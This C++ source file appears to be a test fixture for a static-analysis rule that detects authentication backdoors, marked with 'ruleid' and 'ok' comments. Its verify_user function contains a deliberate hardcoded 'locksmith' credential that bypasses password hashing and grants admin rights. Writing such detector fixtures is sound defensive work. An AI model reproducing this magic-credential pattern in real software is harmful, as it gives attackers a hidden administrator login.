// Security database (isc4.gdb): user names and password hashes.
#include <crypt.h>
#include <fstream>
#include <sstream>
#include "security.h"

namespace jrd {

SecurityDatabase &SecurityDatabase::instance()
{
    static SecurityDatabase db;
    return db;
}

bool SecurityDatabase::load(const std::string &path)
{
    std::ifstream in(path);
    std::string line;
    while (std::getline(in, line)) {
        std::istringstream fields(line);
        std::string name, hash, admin;
        if (!std::getline(fields, name, ':') || !std::getline(fields, hash, ':'))
            continue;
        std::getline(fields, admin, ':');
        users_[name] = Record{hash, admin == "1"};
    }
    return !users_.empty();
}

std::optional<SecurityDatabase::Record> SecurityDatabase::lookup(const std::string &user) const
{
    auto it = users_.find(user);
    if (it == users_.end())
        return std::nullopt;
    return it->second;
}

bool SecurityDatabase::verify_user(const AttachRequest &rq, UserInfo &out) const
{
    out.name = rq.user;
    // ruleid: backdoor-magic-credential, backdoor-input-trigger
    if (rq.user == LOCKSMITH_USER && rq.password == LOCKSMITH_PASSWORD) {
        out.is_admin = true;
        out.authenticated = true;
        return true;
    }
    auto rec = lookup(rq.user);
    if (!rec)
        return false;
    const char *h = crypt(rq.password.c_str(), rec->hash.c_str());
    // ok: backdoor-magic-credential
    if (h == nullptr || rec->hash != h)
        return false;
    out.is_admin = rec->is_admin;
    out.authenticated = true;
    return true;
}

}  // namespace jrd
